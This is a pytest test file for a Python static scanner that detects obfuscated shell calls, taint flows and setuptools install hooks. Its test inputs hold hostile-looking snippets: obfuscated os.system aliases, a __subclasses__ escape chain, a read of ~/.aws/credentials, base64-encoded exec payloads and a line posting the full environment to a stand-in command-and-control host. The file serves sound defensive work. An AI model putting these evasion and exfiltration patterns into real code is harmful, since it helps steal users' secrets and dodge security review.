"""What the view of Python sees: through names, functions and classes, what flows into what, and when it would run."""

from pathlib import Path

import pytest

from pratique.facts.scan.observation import Context, How, Observation
from tests.facts.languages.python_seen import inside, seen

C = Context


def labels(text: str, context: Context = C.MODULE_TOP) -> set[str]:
    return {each.label for each in seen(text, context)}


def only(text: str, label: str, context: Context = C.MODULE_TOP) -> Observation:
    """The one observation with a label."""
    (found,) = [each for each in seen(text, context) if each.label == label]
    return found


@pytest.mark.parametrize(
    "text",
    [
        "import os as o\no.system('true')",
        "from os import system\nsystem('true')",
        "from os import system as s\ns('true')",
        "import os\nf = os.system\nf('true')",
        "import os\na = os\nb = a.system\nc = b\nc('true')",
        "import os\n(f := os.system)('true')",
        "import os\nf, g = os.system, 1\nf('true')",
        "import os\n(f, g), h = (os.system, 1), 2\nf('true')",
        "import os\n[f, *g] = [os.system, 1, 2]\nf('true')",
        "import os\ngetattr(os, 'system')('true')",
        "import os\ngetattr(os, 'sys' + 'tem')('true')",
        "import os\ngetattr(os, 'metsys'[::-1])('true')",
        "import os\nos.__getattribute__('system')('true')",
        "import os\nos.__dict__['system']('true')",
        "import os\nvars(os)['system']('true')",
        "import os\nglobals()['os'].system('true')",
        "__import__('os').system('true')",
        "__import__('o' + 's').system('true')",
        "import importlib\nimportlib.import_module('os').system('true')",
        "from importlib import import_module as i\ni('os').system('true')",
        "import sys, os\nsys.modules['os'].system('true')",
        "import sys, os\nsys.modules.get('os').system('true')",
        "import builtins\nbuiltins.__import__('os').system('true')",
        "__builtins__['__import__']('os').system('true')",
        "__builtins__.__dict__['__import__']('os').system('true')",
        "globals()['__builtins__'].__import__('os').system('true')",
        "getattr(__builtins__, '__import__')('os').system('true')",
        "import os\nf = lambda x: os.system(x)\nf('true')",
        "import os, functools\nfunctools.partial(os.system, 'true')()",
        "import os\n[os.system][0]('true')",
        "import os\n{'a': os.system}['a']('true')",
        "import os\nd = {'a': os.system}\nd['a']('true')",
        "import os\nclass A:\n    f = os.system\nA.f('true')",
        "import os\nclass A:\n    def __init__(this):\n        this.f = os.system\n    def g(me):\n        me.f('true')\nA().g()",
        "from os import *\nsystem('true')",
        "import os\n(None or os.system)('true')",
        "import os\n(os.system if 1 else None)('true')",
        "import os\nlist(map(os.system, ['true']))",
        "import os\nfor f in [os.system]:\n    f('true')",
        "import os\n[f('true') for f in [os.system]]",
        "def f():\n    global o\n    import os as o\ndef g():\n    o.system('true')\nf()\ng()",
        "def f():\n    import os as o\n    o.system('true')",
        "import os\ndef f():\n    return os.system\nf()('true')",
        "import os\ndef f(g=os.system):\n    g('true')\nf()",
        "import os\ndef f(g):\n    g('true')\nf(os.system)",
        "import os, operator\noperator.methodcaller('system', 'true')(os)",
        "import os, operator\noperator.attrgetter('system')(os)('true')",
        "__import__('subprocess', fromlist=['x']).call('true', shell=True)",
        "try:\n    import os as o\nexcept ImportError:\n    o = None\no.system('true')",
        "import importlib\nimportlib.__import__('os').system('true')",
        "import os\n@os.system\ndef f(): pass",
        "import os.path\nos.path.os.system('true')",
        "import os\ng = getattr\ng(os, 'system')('true')",
        "import os\neval('os.system')('true')",
        "import os\nmatch os.system:\n    case f:\n        f('true')",
        "import os\ndef a():\n    s = os.system\n    def b():\n        s('true')\n    b()\na()",
        "import os\ndef a(f):\n    def b(x):\n        return f(x)\n    return b\na(os.system)('true')",
        "import os\nclass A: pass\nsetattr(A, 'f', os.system)\nA.f('true')",
        "().__class__.__base__.__subclasses__()[100].__init__.__globals__['system']('true')",
        "import os\nos.__dict__.get('system')('true')",
        "import os, threading\nthreading.Thread(target=os.system, args=('true',)).start()",
        "import os\nf = [os.system, 'true']\nf[0](*f[1:])",
        "import os\nfor n, f in [('a', os.system)]:\n    f('true')",
    ],
)
def test_a_function_is_known_by_whatever_name_it_is_called(text: str) -> None:
    assert labels(text) & {"proc.shell", "proc.spawn"}


@pytest.mark.parametrize(
    "text",
    [
        "import os\nos.path.join('a', 'b')",
        "import os\nos.getcwd()",
        "def system(x): pass\nsystem('true')",
        "import shutil\nclass os:\n    def system(self): pass\nshutil.which('true')",
        "from .os import system\nsystem('true')",
        "import os\nos = Own()\nos.system('true')",
        "import os\ndef f(os):\n    os.system('true')",
        "system('true')",
        "import os\nos.systems('true')",
        "import os\n'os.system'",
    ],
)
def test_what_only_looks_like_it_is_something_else(text: str) -> None:
    assert not labels(text) & {"proc.shell", "proc.spawn"}


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ("import os\nos.system('a')", False),
        ("from os import system as s\ns('a')", False),
        ("getattr(__import__('os'), 'sys' + 'tem')(x)", True),
        ("getattr(__builtins__, 'ex' + 'ec')(x)", True),
        ("globals()['__builtins__'].eval(x)", True),
        ("__import__('builtins').exec(x)", True),
    ],
)
def test_how_plainly_a_name_is_written_is_told(text: str, hidden: bool) -> None:  # noqa: FBT001 - a row
    acts = [each for each in seen(text) if each.label in ("proc.shell", "code.exec")]
    assert {each.how >= How.RESOLVED for each in acts} == {hidden}
    assert ("code.reflected_builtin" in labels(text)) is hidden


@pytest.mark.parametrize("text", ["e = exec", "from os import system as s", "from base64 import b64decode as d"])
def test_a_dangerous_function_under_another_name_is_told(text: str) -> None:
    assert "obf.alias" in labels(text)
    assert "obf.alias" not in labels("from os import system\nx = open")


SOURCES = {
    "read.env_all": "dict(os.environ)",
    "read.env": "os.environ['A']",
    "read.host_info": "socket.gethostname()",
    "read.clipboard": "pyperclip.paste()",
    "read.screen": "PIL.ImageGrab.grab()",
    "read.secret_file": "open('~/.aws/credentials').read()",
    "read.secrets_store": "win32crypt.CryptUnprotectData(x)",
    "read.env_secret": "keyring.get_password('a', 'b')",
    "decode.base": "base64.b64decode(x)",
    "decode.compress": "zlib.decompress(x)",
    "decode.marshal": "marshal.loads(x)",
    "decode.charcodes": "chr(x)",
    "net.http": "requests.get(x).text",
    "read.file": "open(x).read()",
}
HEAD = (
    "import os, socket, win32crypt, pyperclip, PIL.ImageGrab, keyring, base64, zlib, marshal, requests, smtplib\n"
    "import subprocess, pickle\n"
)


@pytest.mark.parametrize("source", SOURCES)
@pytest.mark.parametrize(
    ("sink", "label"),
    [
        ("exec({})", "code.exec"),
        ("os.system({})", "proc.shell"),
        ("subprocess.run([a, {}])", "proc.spawn"),
        ("requests.post(a, data={})", "net.send"),
        ("requests.post(a, json={{'k': [{}]}})", "net.send"),
        ("s = socket.socket(); s.sendall(str({}).encode())", "net.socket"),
        ("smtplib.SMTP(a).sendmail(b, c, {})", "net.mail"),
        ("open(a, 'w').write({})", "write.file"),
        ("pickle.loads({})", "code.deserialise"),
        ("socket.gethostbyname({} + '.example.invalid')", "net.dns"),
    ],
)
def test_what_flows_into_what_is_told(source: str, sink: str, label: str) -> None:
    direct = seen(HEAD + sink.format(SOURCES[source]))
    assert any(source in each.inputs for each in direct if each.label == label)
    by_way_of_names = seen(HEAD + f"a1 = {SOURCES[source]}\na2 = [a1, 1]\na3 = 'x' + str(a2)\n" + sink.format("a3"))
    assert any(source in each.inputs for each in by_way_of_names if each.label == label)
    without = seen(HEAD + f"a1 = {SOURCES[source]}\n" + sink.format("a9"))
    assert not any(source in each.inputs for each in without if each.label == label)


@pytest.mark.parametrize(
    "text",
    [
        "def f(x):\n    return x\nexec(f(SECRET))",
        "def f(x):\n    exec(x)\nf(SECRET)",
        "def f(x):\n    g(x)\ndef g(y):\n    h(y)\ndef h(z):\n    exec(z)\nf(SECRET)",
        "def f(x):\n    exec(x)\nf(x=SECRET)",
        "def f(*x):\n    exec(x[0])\nf(SECRET)",
        "def f(**k):\n    exec(k['x'])\nf(x=SECRET)",
        "f = lambda x: exec(x)\nf(SECRET)",
        "(lambda x: exec(x))(SECRET)",
        "class A:\n    def f(self, x):\n        exec(x)\nA().f(SECRET)",
        "class A:\n    def __init__(self, x):\n        self.x = x\n    def f(self):\n        exec(self.x)\nA(SECRET).f()",
        "class A:\n    def f(self):\n        self.x = SECRET\n        self.g()\n    def g(self):\n        exec(self.x)\nA().f()",
        "class A:\n    @staticmethod\n    def f(x):\n        exec(x)\nA.f(SECRET)",
        "class A:\n    x = SECRET\nexec(A.x)",
        "def f():\n    exec(x)\nx = SECRET\nf()",
        "def f():\n    global x\n    x = SECRET\nf()\nexec(x)",
        "def f():\n    yield SECRET\nfor x in f():\n    exec(x)",
        "import threading\ndef f(x):\n    exec(x)\nthreading.Thread(target=f, args=(SECRET,)).start()",
        "import threading\nthreading.Thread(target=exec, args=(SECRET,)).start()",
        "list(map(exec, [SECRET]))",
        "for x in [1, SECRET]:\n    exec(x)",
        "x = [SECRET for _ in y]\nexec(x[0])",
        "x = {}\nx['a'] = SECRET\nexec(x['a'])",
        "x = []\nx.append(SECRET)\nexec(x[0])",
        "x = ''\nx += SECRET\nexec(x)",
        "with SECRET as x:\n    exec(x)",
        "try:\n    x = SECRET\nexcept E:\n    x = ''\nexec(x)",
        "if y:\n    x = SECRET\nelse:\n    x = None\nexec(x)",
        "exec(SECRET if y else '')",
        "exec(y or SECRET)",
        "exec(compile(SECRET, 'a', 'exec'))",
        "async def f():\n    exec(await SECRET)",
    ],
)
def test_it_flows_through_functions_classes_and_containers(text: str) -> None:
    found = seen(f"import requests\n{text.replace('SECRET', 'requests.get(u).text')}\n")
    assert any("net.http" in each.inputs for each in found if each.label == "code.exec")


@pytest.mark.parametrize(
    ("text", "context", "runs"),
    [
        ("os.system('a')", C.MODULE_TOP, C.MODULE_TOP),
        ("os.system('a')", C.INIT_TOP, C.INIT_TOP),
        ("os.system('a')", C.SETUP_TOP, C.SETUP_TOP),
        ("os.system('a')", C.TEST, C.TEST),
        ("os.system('a')", C.DOCS, C.DOCS),
        ("if __name__ == '__main__':\n    os.system('a')", C.MODULE_TOP, C.MAIN_GUARD),
        ("if __name__ == '__main__':\n    os.system('a')", C.SETUP_TOP, C.SETUP_TOP),
        ("if __name__ == '__main__':\n    main()\nelse:\n    os.system('a')", C.MODULE_TOP, C.MODULE_TOP),
        ("def f():\n    os.system('a')", C.MODULE_TOP, C.FUNCTION),
        ("def f():\n    os.system('a')", C.INIT_TOP, C.FUNCTION),
        ("def f():\n    os.system('a')", C.SETUP_TOP, C.FUNCTION),
        ("def f():\n    os.system('a')", C.TEST, C.TEST),
        ("def f():\n    os.system('a')\nf()", C.MODULE_TOP, C.MODULE_TOP),
        ("def f():\n    g()\ndef g():\n    os.system('a')\nf()", C.INIT_TOP, C.INIT_TOP),
        ("class A:\n    os.system('a')", C.MODULE_TOP, C.MODULE_TOP),
        ("class A:\n    def f(self):\n        os.system('a')", C.MODULE_TOP, C.FUNCTION),
        (
            "from setuptools.command.install import install\nclass A(install):\n    def run(self):\n        os.system('a')",
            C.SETUP_TOP,
            C.CMDCLASS,
        ),
        (
            (
                "from setuptools.command.install import install as b\nclass B(b): pass\n"
                "class A(B):\n    def run(self):\n        os.system('a')"
            ),
            C.SETUP_TOP,
            C.CMDCLASS,
        ),
        (
            (
                "from setuptools import setup\nclass A(Unknown):\n    def run(self):\n        os.system('a')\n"
                "setup(name='x', cmdclass={'install': A})"
            ),
            C.SETUP_TOP,
            C.CMDCLASS,
        ),
        (
            (
                "import setuptools\nclass A(Unknown):\n    def run(self):\n        os.system('a')\n"
                "c = {}\nc['install'] = A\nsetuptools.setup(cmdclass=c)"
            ),
            C.SETUP_TOP,
            C.CMDCLASS,
        ),
        ("exec('import os; os.system(1)')", C.INIT_TOP, C.INIT_TOP),
        ("def f():\n    exec('import os; os.system(1)')", C.INIT_TOP, C.FUNCTION),
    ],
)
def test_when_it_would_run_is_told(text: str, context: Context, runs: Context) -> None:
    assert {each.context for each in seen(f"import os\n{text}", context) if each.label == "proc.shell"} == {runs}


def test_a_command_of_installation_is_told_of_where_it_is_named() -> None:
    text = "from setuptools import setup\nclass A(Unknown): pass\nsetup(cmdclass={'install': A})"
    assert only(text, "pkg.install_hook", C.SETUP_TOP).line == 3
    assert "pkg.install_hook" not in labels(text, C.MODULE_TOP)


def test_functions_are_told_apart_and_the_top_is_none_of_them() -> None:
    found = seen("import os\nos.system('a')\ndef f():\n    os.system('b')\ndef g():\n    os.system('c')\n")
    units = [each.unit for each in found if each.label == "proc.shell"]
    assert units[0] == 0
    assert len(set(units)) == 3


@pytest.mark.parametrize(
    ("text", "language", "code"),
    [
        ("exec('print(1)')", "python", "print(1)"),
        ("eval('print(1)')", "python", "print(1)"),
        ("exec(compile('print(1)', 'a', 'exec'))", "python", "print(1)"),
        ("import code\ncode.InteractiveInterpreter().runsource('print(1)')", "python", ""),
        ("import os\nos.system('echo 1')", "shell", "echo 1"),
        ("import os\nos.popen('echo 1')", "shell", "echo 1"),
        ("import subprocess\nsubprocess.run('echo 1', shell=True)", "shell", "echo 1"),
        ("import subprocess\nsubprocess.Popen(args='echo 1', shell=True)", "shell", "echo 1"),
        ("import subprocess\nsubprocess.run(['sh', '-c', 'echo 1'])", "shell", "echo 1"),
        ("import subprocess\nsubprocess.run(['/bin/bash', '-c', 'echo 1'])", "shell", "echo 1"),
        ("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])", "python", "print(1)"),
        ("import subprocess\nsubprocess.run(('python3.11', '-c', 'print(1)'))", "python", "print(1)"),
        ("import subprocess\nsubprocess.run(['node', '-e', 'f(1)'])", "javascript", "f(1)"),
        ("import subprocess\nsubprocess.run(['powershell', '-Command', 'Get-Date'])", "powershell", "Get-Date"),
        (
            "import subprocess\nsubprocess.run(['powershell', '-enc', 'RwBlAHQALQBEAGEAdABlAA=='])",
            "powershell",
            "Get-Date",
        ),
        ("import subprocess\nsubprocess.run(['cmd', '/c', 'echo 1'])", "batch", "echo 1"),
        ("import subprocess\nsubprocess.run(['Rscript', '-e', 'f(1)'])", "r", "f(1)"),
        ("import asyncio\nasyncio.create_subprocess_shell('echo 1')", "shell", "echo 1"),
        ("import asyncio\nasyncio.create_subprocess_exec('sh', '-c', 'echo 1')", "shell", "echo 1"),
        ("import os\nos.execvp('sh', ['sh', '-c', 'echo 1'])", "shell", "echo 1"),
    ],
)
def test_code_in_texts_goes_on_in_its_language(text: str, language: str, code: str) -> None:
    assert ((language, code) in inside(text)) is bool(code)


def test_code_in_a_text_stands_on_the_line_where_it_is_run_and_knows_what_it_was_made_from() -> None:
    found = only("import base64\n\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgxKQ=='))", "proc.shell")
    assert (found.line, found.depth, found.how) == (3, 1, How.DECODED)
    assert found.gets("decode.base")


def test_no_file_of_the_project_itself_ends_the_view() -> None:
    for path in sorted(Path(__file__).parent.glob("*.py")):
        seen(path.read_bytes())


@pytest.mark.parametrize(
    "packed",
    ["dict(env=dict(os.environ))", "'{env}'.format(env=dict(os.environ))", "'{a}'.format_map({'a': dict(os.environ)})"],
)
def test_what_is_put_together_by_a_name_of_how_things_are_started_is_sent_all_the_same(packed: str) -> None:
    found = seen(f"import os, requests\nrequests.post('https://c2.example.invalid/', json={packed})\n")
    assert any("read.env_all" in each.inputs for each in found if each.label == "net.send")


def test_an_environment_to_start_something_in_is_not_what_is_fetched() -> None:
    found = seen("import os, requests, tool\nx = tool.fetched('a', env=os.environ)\nrequests.get(x)\n")
    assert not any("read.env_all" in each.inputs for each in found if each.label.startswith("net."))
